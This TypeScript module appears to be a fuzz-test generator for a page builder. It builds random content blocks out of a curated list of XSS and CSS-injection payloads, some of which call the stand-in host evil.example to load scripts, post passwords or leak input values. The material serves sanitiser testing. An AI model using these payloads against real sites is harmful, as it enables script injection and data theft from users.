import type { Rng } from '../rng.ts'

/** Known ways to run a script or to break out of an element, from OWASP and from other stores. */
const hostileHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<img/src=x/onerror=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/x" onclick="alert(1)">x</a>',
  '<a href="/x"onclick="alert(1)">x</a>',
  '<a href="/x" rel="noopener" onfocus=alert(1) autofocus>x</a>',
  '<a href="//evil.example/" target=_blank>x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.example/">',
  '<form action="//evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x/>',
  '</div></section></main></div></body></html>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<table><tr><td>',
  '<p><strong><em><a href="/x">',
  '<ul><li><ul><li>',
  '<h2><h3><h4>',
  '</p></p></table></a></ul>',
  '<details open ontoggle=alert(1)><summary>x',
  '<plaintext>',
  '<select><option><style></select><img src=x onerror=alert(1)></style>',
  '<dialog open id=buy>x</dialog>',
  '<button popovertarget=x>x</button>',
  '<p id="root">x</p><p id="data">{}</p>',
  '\u2028\u2029\u0001<\u0000script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  '<'.repeat(50),
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

const hostileCss = [
  '@import url(//evil.example/x.css);',
  'body{display:none}',
  '* {position:fixed;inset:0;z-index:9}',
  'p{background:url(//evil.example/leak)}',
  'p{background:u\\72l(//evil.example/)}',
  'p{behavior:url(x.htc);-moz-binding:url(x)}',
  'p{width:expression(alert(1))}',
  '</style><script>alert(1)</script>',
  '}</style><img src=x onerror=alert(1)>{',
  '@font-face{font-family:x;src:url(//evil.example/x.woff)}',
  'input[value^=a]{background:image-set("//evil.example/a" 1x)}',
  ':root{--color-paper:red} html,body,.article__own ~ *{display:none}',
  '+ * {display:none}',
  '& ~ *{display:none} .a{& + *{display:none}}',
  '@media all{body{display:none}}',
  '@layer components{body{display:none}} @scope(body){p{display:none}}',
  'p{color:red} p{',
  '/* } body{display:none} /*',
  ':is(p,body){position:FiXeD}',
  'p{position:var(--x);--x:fixed}',
]

const harmless = [
  '<p>Brush it <strong>dry</strong>.</p>',
  'Plates',
  '<ul><li>One</li><li>Two</li></ul>',
  '',
  'a & b < c',
]
const addresses = [
  '/plates',
  '',
  'javascript:alert(1)',
  '//evil.example',
  'https://evil.example/"onclick="alert(1)',
  '?a=1#b',
]

function textOf(rng: Rng, from: readonly string[]): string {
  const parts = Array.from({ length: 1 + rng.below(4) }, () => (rng.oneIn(3) ? rng.pick(harmless) : rng.pick(from)))
  const text = parts.join('')
  // Truncated, doubled, or spliced, because filters fail at the seams.
  if (rng.oneIn(4)) return text.slice(0, 1 + rng.below(text.length + 1))
  if (rng.oneIn(6)) return text + text
  if (rng.oneIn(6)) {
    const at = rng.below(text.length + 1)
    return text.slice(0, at) + rng.pick(hostileHtml) + text.slice(at)
  }
  return text
}

export const hostileHtmlText = (rng: Rng) => textOf(rng, hostileHtml)
export const hostileCssText = (rng: Rng) => textOf(rng, hostileCss)

type MakeProps = (text: () => string, rng: Rng) => object

const picture = { alt: 'A rack', base: '/media/demo/rack', width: 4, height: 3, widths: [4] }
const propsOf: Readonly<Record<string, MakeProps>> = {
  Hero: (text, rng) => ({
    heading: text(),
    text: text(),
    linkLabel: text(),
    href: rng.pick(addresses),
    picture: { ...picture, alt: text() },
    tone: 'dark',
  }),
  Text: (text) => ({ heading: text(), html: text() }),
  Tiles: (text, rng) => ({ heading: text(), tiles: [{ label: text(), href: rng.pick(addresses), picture }] }),
  Story: (text, rng) => ({
    heading: text(),
    html: rng.oneIn(2) ? '<p>Steel.</p>' : text(),
    picture,
    quote: { text: text(), name: text() },
    linkLabel: text(),
    href: rng.pick(addresses),
  }),
  Faq: (text, rng) => ({
    heading: text(),
    questions: [{ question: text(), html: rng.oneIn(2) ? '<p>So.</p>' : text() }],
  }),
  Video: (text, rng) => ({
    title: text(),
    text: text(),
    picture,
    host: 'youtube',
    videoId: rng.pick(['dQw4w9WgXcQ', '"><script>', 'aaaaaaaaaa/']),
  }),
  Map: (text) => ({
    heading: text(),
    address: [text()],
    latitude: 1,
    longitude: 2,
    hours: [{ days: text(), time: text() }],
  }),
  Picture: (text) => ({ picture: { ...picture, alt: text() }, caption: text() }),
  Quote: (text) => ({ text: text(), name: text(), role: text() }),
  NewsletterBand: (text) => ({ heading: text(), text: text() }),
  Posts: (text) => ({ heading: text(), linkLabel: text(), href: '/theindex' }),
  Html: (text, rng) => ({
    title: text(),
    heading: text(),
    html: text(),
    css: hostileCssText(rng),
    js: text(),
    height: 300,
  }),
  Shared: (_text, rng) => ({ name: rng.pick(['none', '../x', '"><script>']) }),
  Unknown: (text) => ({ html: text() }),
}

/** Returns page content as a hostile or careless editor might store it. */
export function hostileBlocks(rng: Rng): object[] {
  return Array.from({ length: 1 + rng.below(5) }, (_, index) => {
    const type = rng.pick(Object.keys(propsOf))
    const id = rng.oneIn(12) ? hostileHtmlText(rng) : `block-${index}`
    // Headings and names have at most 300 characters; longer texts would be omitted.
    const text = () => hostileHtmlText(rng).slice(0, rng.oneIn(8) ? undefined : 280)
    return { type, props: { id, ...propsOf[type]!(text, rng) } }
  })
}
